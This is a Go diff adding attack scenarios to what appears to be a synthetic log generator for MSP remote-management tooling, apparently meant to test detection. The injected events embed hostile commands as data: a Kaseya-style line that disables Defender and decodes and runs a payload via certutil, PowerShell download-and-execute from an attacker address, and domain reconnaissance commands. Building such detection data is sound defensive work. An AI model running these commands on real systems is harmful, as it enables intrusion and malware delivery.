@@ -4,6 +4,7 @@ import (
 	"encoding/base64"
 	"math/rand/v2"
 	"strconv"
+	"strings"
 	"unicode/utf16"
 )
 
@@ -58,6 +59,28 @@ var scenarioDefs = []scenarioDef{
 		"Low and slow: the MSP admin's account logs in with MFA from its usual country but a hosting ASN at night, then over about three hours opens long sessions into eight tenants, " +
 			"uses privileged domain credentials in each and runs reconnaissance, NTDS extraction and password-protected RAR staging commands."},
 		injectCloudHopper},
+	{Scenario{"rogue-technician", "Persistence through new MSP console accounts (CISA AA22-131A; Scattered Spider, CISA AA23-320A)",
+		"The MSP admin's account signs in to the RMM console with MFA (a replayed session) from a hosting network in the MSP's own country and creates a technician account " +
+			"with a plausible name (account.created); the new account enrols an MFA device and, 70 to 100 minutes later, signs in with MFA from another hosting address " +
+			"and opens sessions into five tenants' servers, using a privileged credential in two."},
+		injectRogueTechnician},
+	{Scenario{"mfa-removed", "Help-desk MFA reset then account takeover (Scattered Spider / MGM 2023, CISA AA23-320A)",
+		"The admin, from the usual office, resets a day technician's MFA (account.changed, change mfa_reset) after a social-engineered call; 20 to 40 minutes later the technician's account " +
+			"signs in to the RMM console without MFA from a hosting network in the MSP's country and pushes a vendor-signed remote-access tool (AnyDesk or another the MSP does not use) " +
+			"to every Windows host of six tenants within 20 minutes, without a change ticket."},
+		injectMFARemoved},
+	{Scenario{"api-key-abuse", "Stolen RMM/PSA API keys (CISA AA22-131A; the 2024 ConnectWise and SimpleHelp intrusions)",
+		"The MSP's PSA integration account (psa-sync@..., role service, API key, no MFA as always for it) authenticates from a foreign hosting address and, within ten minutes, " +
+			"runs a PowerShell download-and-execute (-ExecutionPolicy Bypass, Invoke-WebRequest -OutFile, then run) on every Windows host of eight tenants through the API, without a ticket."},
+		injectAPIKeyAbuse},
+	{Scenario{"election-off-hours", "Insider or hijacked technician on election infrastructure (CISA election security advisories; issue 11's missed attack)",
+		"A day technician, from the usual home network with MFA, opens a session at about 03:10 tenant local time into an election-tagged server (a critical server when no tenant is an election office) " +
+			"and runs a PowerShell download-and-execute (-ExecutionPolicy Bypass, Invoke-WebRequest ... -OutFile, then the file) on it."},
+		injectElectionOffHours},
+	{Scenario{"impossible-travel", "Adversary-in-the-middle session theft (Evilginx-style phishing of RMM console users; CISA AA23-320A)",
+		"A day technician signs in as usual; 20 to 45 minutes later the same account signs in again with MFA satisfied (a stolen session) from a foreign country and hosting network, " +
+			"and opens sessions into three of the technician's tenants, running reconnaissance in one."},
+		injectImpossibleTravel},
 }
 
 // Scenarios lists the attacks the generator can inject.
@@ -149,6 +172,10 @@ func perm16(r *rand.Rand, n int) []int16 {
 func injectKaseya(g *Generator, r *rand.Rand, at int64, sc uint8) {
 	mi := mspWithTool(g, toolKaseya)
 	m := &g.w.msps[mi]
+	tool := toolKaseya
+	if !m.tools[tool] {
+		tool = m.spec.rmm // no Kaseya MSP (Conventions.Tools): the same procedure through another RMM
+	}
 	actor := &extra{actor: obj("user", "vsa-admin", "role", "admin")}
 	script := &extra{actor: actor.actor, script: obj("name", "Kaseya VSA Agent Hot-fix", "sha256", randSHA(r), "interpreter", "cmd",
 		"command", `C:\WINDOWS\system32\cmd.exe /c ping 127.0.0.1 -n 4979 > nul & powershell.exe -ExecutionPolicy Bypass -Command "Set-MpPreference -DisableRealtimeMonitoring $true -DisableIntrusionPreventionSystem $true -DisableIOAVProtection $true -DisableScriptScanning $true -EnableControlledFolderAccess Disabled -EnableNetworkProtection AuditMode -Force -MAPSReporting Disabled -SubmitSamplesConsent NeverSend" & copy /Y C:\Windows\System32\certutil.exe C:\Windows\cert.exe & echo %RANDOM% >> C:\Windows\cert.exe & C:\Windows\cert.exe -decode c:\kworking\agent.crt c:\kworking\agent.exe & del /q /f c:\kworking\agent.crt C:\Windows\cert.exe & c:\kworking\agent.exe`)}
@@ -163,7 +190,7 @@ func injectKaseya(g *Generator, r *rand.Rand, at int64, sc uint8) {
 			base += r.Int64N(step)
 		}
 		ev := g.attack(kScriptRun, mi, base, sc)
-		ev.tool, ev.tenant, ev.count, ev.x = toolKaseya, ti, int32(len(tn.hosts)), script
+		ev.tool, ev.tenant, ev.count, ev.x = tool, ti, int32(len(tn.hosts)), script
 		g.push(ev)
 		ev.kind, ev.at, ev.x = kSoftwarePush, base+int64(2+r.IntN(5))*second, push
 		g.push(ev)
@@ -172,7 +199,7 @@ func injectKaseya(g *Generator, r *rand.Rand, at int64, sc uint8) {
 				break
 			}
 			in := g.attack(kSoftwareInstall, mi, base+int64(60+r.IntN(180))*second, sc)
-			in.tool, in.tenant, in.host, in.x = toolKaseya, ti, hi, install
+			in.tool, in.tenant, in.host, in.x = tool, ti, hi, install
 			g.push(in)
 		}
 	}
@@ -288,7 +315,6 @@ func injectTampered(g *Generator, r *rand.Rand, at int64, sc uint8) {
 	bad := pkgFrag(good.name, good.version, fakeSHA("tampered", good.name, good.version), good.signer, true)
 	ti := m.day[r.IntN(len(m.day))]
 	m.ticketSeq++
-	ticket := m.spec.ticketPrefix + strconv.FormatUint(uint64(m.ticketSeq), 10)
 	order := perm16(r, len(m.tenants))
 	n := min(len(order), 5)
 	for i, tenant := range order[:n] {
@@ -299,8 +325,8 @@ func injectTampered(g *Generator, r *rand.Rand, at int64, sc uint8) {
 		}
 		count := min(len(tn.windows), 12)
 		ev := g.attack(kSoftwarePush, mi, t, sc)
-		ev.tool, ev.actor, ev.tenant, ev.count = m.spec.rmm, ti, tenant, int32(count)
-		ev.x = &extra{pkg: bad, ticket: ticket}
+		ev.tool, ev.actor, ev.tenant, ev.count, ev.ticket = m.spec.rmm, ti, tenant, int32(count), m.ticketSeq
+		ev.x = &extra{pkg: bad}
 		g.push(ev)
 		for j := 0; j < min(count, 6); j++ {
 			in := g.attack(kSoftwareInstall, mi, t+int64(2+r.IntN(20))*minute, sc)
@@ -457,6 +483,235 @@ func injectCloudHopper(g *Generator, r *rand.Rand, at int64, sc uint8) {
 		}
 		e := s
 		e.kind, e.at, e.dur, e.cred = kSessionEnd, t+dur*second, int32(dur), -1
+		g.push(e)
+	}
+}
+
+// attackerIn is an attacker on a hosting network in the given country (a
+// VPS rented near the victim, so that the country alone gives nothing away).
+func attackerIn(r *rand.Rand, country string) attacker {
+	a := newAttacker(r, nil)
+	a.country = country
+	return a
+}
+
+func injectRogueTechnician(g *Generator, r *rand.Rand, at int64, sc uint8) {
+	mi := int16(r.IntN(len(g.w.msps)))
+	m := &g.w.msps[mi]
+	admin := &m.techs[m.admin]
+	a := attackerIn(r, m.spec.country)
+	who := a.actor(admin.user, admin.role)
+	ev := g.attack(kAuthLogin, mi, at, sc)
+	ev.tool, ev.mfa, ev.x = m.spec.rmm, 1, &extra{actor: who, authMethod: tools[m.spec.rmm].authMethod}
+	g.push(ev)
+
+	domain := admin.user[strings.IndexByte(admin.user, '@')+1:]
+	user := "kmorgan@" + domain // a plausible colleague nobody hired
+	c := g.attack(kAccountCreated, mi, at+int64(3+r.IntN(4))*minute, sc)
+	c.tool = m.spec.rmm
+	c.x = &extra{actor: who, attrs: obj("account", user, "role", "technician", "created_via", "console")}
+	g.push(c)
+
+	b := newAttacker(r, nil)
+	b.country = m.spec.country
+	newWho := b.actor(user, "technician")
+	ch := g.attack(kAccountChanged, mi, c.at+int64(5+r.IntN(10))*minute, sc)
+	ch.tool, ch.x = m.spec.rmm, &extra{actor: newWho, attrs: obj("account", user, "change", "mfa_device_added")}
+	g.push(ch)
+
+	t := c.at + int64(70+r.IntN(30))*minute
+	login := g.attack(kAuthLogin, mi, t, sc)
+	login.tool, login.mfa, login.x = m.spec.remote, 1, &extra{actor: newWho, authMethod: tools[m.spec.remote].authMethod}
+	g.push(login)
+	order := perm16(r, len(m.tenants))
+	for i, tenant := range order[:min(5, len(order))] {
+		tn := &m.tenants[tenant]
+		st := t + 3*minute + int64(i)*9*minute + r.Int64N(3*minute)
+		s := g.attack(kSessionStart, mi, st, sc)
+		s.tool, s.tenant, s.sess, s.x = tn.remote, tenant, r.Uint64()|1, &extra{actor: newWho}
+		s.host = tn.windows[len(tn.windows)-1]
+		g.push(s)
+		if i < 2 {
+			cu := s
+			cu.kind, cu.at, cu.sess, cu.cred, cu.priv = kCredentialUse, st+int64(30+r.IntN(60))*second, 0, 0, true
+			g.push(cu)
+		}
+		dur := int64(400 + r.IntN(600))
+		e := s
+		e.kind, e.at, e.dur = kSessionEnd, st+dur*second, int32(dur)
+		g.push(e)
+	}
+}
+
+// remoteToolNotUsedBy is a remote-access tool MSP m does not use.
+func remoteToolNotUsedBy(m *msp) uint8 {
+	for _, t := range []uint8{toolAnyDesk, toolSplashtop, toolTeamViewer, toolScreenConnect, toolAtera} {
+		if !m.tools[t] {
+			return t
+		}
+	}
+	return toolAnyDesk
+}
+
+func injectMFARemoved(g *Generator, r *rand.Rand, at int64, sc uint8) {
+	mi := int16(r.IntN(len(g.w.msps)))
+	m := &g.w.msps[mi]
+	ti := m.day[r.IntN(len(m.day))]
+	tc := &m.techs[ti]
+	// The reset itself is the admin's own, from where the admin is that
+	// day: the help desk was fooled, not hacked.
+	ch := g.attack(kAccountChanged, mi, at, sc)
+	ch.tool, ch.actor, ch.loc = m.spec.rmm, m.admin, g.techLoc(mi, m.admin, at)
+	ch.x = &extra{attrs: obj("account", tc.user, "change", "mfa_reset")}
+	g.push(ch)
+
+	a := attackerIn(r, m.spec.country)
+	who := a.actor(tc.user, tc.role)
+	t := at + int64(20+r.IntN(20))*minute
+	login := g.attack(kAuthLogin, mi, t, sc)
+	login.tool, login.mfa, login.x = m.spec.rmm, 0, &extra{actor: who, authMethod: "password"}
+	g.push(login)
+
+	tool := tools[remoteToolNotUsedBy(m)]
+	pkg := pkgFrag(tool.agent, tool.version, fakeSHA(tool.agent, tool.version), tool.signer, true)
+	order := perm16(r, len(m.tenants))
+	for i, tenant := range order[:min(6, len(order))] {
+		tn := &m.tenants[tenant]
+		pt := t + 2*minute + int64(i)*3*minute + r.Int64N(minute)
+		p := g.attack(kSoftwarePush, mi, pt, sc)
+		p.tool, p.tenant, p.count = m.spec.rmm, tenant, int32(len(tn.windows))
+		p.x = &extra{actor: who, pkg: pkg}
+		g.push(p)
+		for j, hi := range tn.windows {
+			if j == 6 {
+				break
+			}
+			in := g.attack(kSoftwareInstall, mi, pt+int64(1+r.IntN(10))*minute, sc)
+			in.tool, in.tenant, in.host, in.x = m.spec.rmm, tenant, hi, &extra{pkg: pkg, url: tool.url}
+			g.push(in)
+		}
+	}
+}
+
+// downloadExec is a PowerShell download-and-execute of url into path.
+func downloadExec(url, path string) string {
+	return `powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "Invoke-WebRequest -Uri '` + url + `' -OutFile '` + path + `' -UseBasicParsing; & '` + path + `'"`
+}
+
+func injectAPIKeyAbuse(g *Generator, r *rand.Rand, at int64, sc uint8) {
+	mi := int16(r.IntN(len(g.w.msps)))
+	m := &g.w.msps[mi]
+	svc := m.techs[m.svc].user
+	user := "psa-sync@" + svc[strings.IndexByte(svc, '@')+1:]
+	a := newAttacker(r, []string{m.spec.country})
+	who := a.actor(user, "service")
+	login := g.attack(kAuthLogin, mi, at, sc)
+	login.tool, login.mfa, login.x = m.spec.rmm, 0, &extra{actor: who, authMethod: "api_key"}
+	g.push(login)
+	script := &extra{actor: who, script: obj("name", "Connectivity Check", "sha256", randSHA(r), "interpreter", "powershell",
+		"command", downloadExec("http://"+a.ip+"/cc.ps1", `$env:TEMP\cc.ps1`))}
+	order := perm16(r, len(m.tenants))
+	n := min(8, len(order))
+	for i, tenant := range order[:n] {
+		tn := &m.tenants[tenant]
+		ev := g.attack(kScriptRun, mi, at+int64(1+i*9/n)*minute+r.Int64N(50*second), sc)
+		ev.tool, ev.tenant, ev.count, ev.x = m.spec.rmm, tenant, int32(len(tn.windows)), script
+		g.push(ev)
+	}
+}
+
+func injectElectionOffHours(g *Generator, r *rand.Rand, at int64, sc uint8) {
+	// An election office's server, else any tenant's critical server.
+	mi, tenant, hi := int16(r.IntN(len(g.w.msps))), int16(-1), int16(-1)
+	for k := range g.w.msps {
+		m := &g.w.msps[(int(mi)+k)%len(g.w.msps)]
+		for ti := range m.tenants {
+			if m.tenants[ti].election {
+				mi, tenant = int16((int(mi)+k)%len(g.w.msps)), int16(ti)
+				break
+			}
+		}
+		if tenant >= 0 {
+			break
+		}
+	}
+	m := &g.w.msps[mi]
+	if tenant < 0 {
+		tenant = int16(r.IntN(len(m.tenants)))
+	}
+	tn := &m.tenants[tenant]
+	for i := len(tn.hosts) - 1; i >= 0; i-- {
+		if tn.hosts[i].server && tn.hosts[i].windows {
+			hi = int16(i)
+			break
+		}
+	}
+	if hi < 0 {
+		hi = tn.windows[0]
+	}
+	// A technician of that tenant, from home (the second location).
+	ti := m.admin
+	for _, d := range m.day {
+		if contains16(m.techs[d].tenants, tenant) {
+			ti = d
+			break
+		}
+	}
+	loc := uint8(0)
+	if len(m.techs[ti].locs) > 1 {
+		loc = 1
+	}
+	t := nextLocal(at+5*minute, int64(tn.tzHours)*3600, 3, 10) - 4*minute
+	login := g.attack(kAuthLogin, mi, t, sc)
+	login.tool, login.actor, login.loc, login.mfa, login.x = tn.remote, ti, loc, 1, &loginExtras[tn.remote]
+	g.push(login)
+	s := g.attack(kSessionStart, mi, t+int64(2+r.IntN(2))*minute, sc)
+	s.tool, s.actor, s.loc, s.tenant, s.host, s.sess = tn.remote, ti, loc, tenant, hi, r.Uint64()|1
+	g.push(s)
+	x := s
+	x.kind, x.sess, x.at = kScriptRun, 0, s.at+int64(2+r.IntN(3))*minute
+	x.x = &extra{script: obj("name", "Run Command", "sha256", randSHA(r), "interpreter", "powershell",
+		"command", downloadExec("https://"+string(appendHex(nil, r.Uint64(), 8))+".trycloudflare.com/u.ps1", `C:\Windows\Temp\u.ps1`))}
+	g.push(x)
+	e := s
+	e.kind, e.at, e.dur = kSessionEnd, s.at+1200*second, 1200
+	g.push(e)
+}
+
+func injectImpossibleTravel(g *Generator, r *rand.Rand, at int64, sc uint8) {
+	mi := int16(r.IntN(len(g.w.msps)))
+	m := &g.w.msps[mi]
+	ti := m.day[r.IntN(len(m.day))]
+	tc := &m.techs[ti]
+	// The technician's own sign-in, as any morning: benign (no scenario).
+	own := newEvent(kAuthLogin, mi, at)
+	own.tool, own.actor, own.loc, own.mfa, own.x = m.spec.rmm, ti, g.techLoc(mi, ti, at), 1, &loginExtras[m.spec.rmm]
+	g.push(own)
+
+	a := newAttacker(r, tc.countries)
+	who := a.actor(tc.user, tc.role)
+	t := at + int64(20+r.IntN(25))*minute
+	login := g.attack(kAuthLogin, mi, t, sc)
+	login.tool, login.mfa, login.x = m.spec.rmm, 1, &extra{actor: who, authMethod: tools[m.spec.rmm].authMethod}
+	g.push(login)
+	for i := range min(3, len(tc.tenants)) {
+		tenant := tc.tenants[i]
+		tn := &m.tenants[tenant]
+		st := t + int64(2+i*7)*minute + r.Int64N(2*minute)
+		s := g.attack(kSessionStart, mi, st, sc)
+		s.tool, s.tenant, s.sess, s.x = tn.remote, tenant, r.Uint64()|1, &extra{actor: who}
+		s.host = tn.windows[len(tn.windows)-1]
+		g.push(s)
+		if i == 0 {
+			x := s
+			x.kind, x.sess, x.at = kScriptRun, 0, st+int64(60+r.IntN(60))*second
+			x.x = &extra{actor: who, script: obj("name", "cmd", "sha256", randSHA(r), "interpreter", "cmd",
+				"command", `cmd.exe /c whoami /groups & net group "Domain Admins" /domain & nltest /dclist:`)}
+			g.push(x)
+		}
+		dur := int64(300 + r.IntN(900))
+		e := s
+		e.kind, e.at, e.dur = kSessionEnd, st+dur*second, int32(dur)
 		g.push(e)
 	}
 }
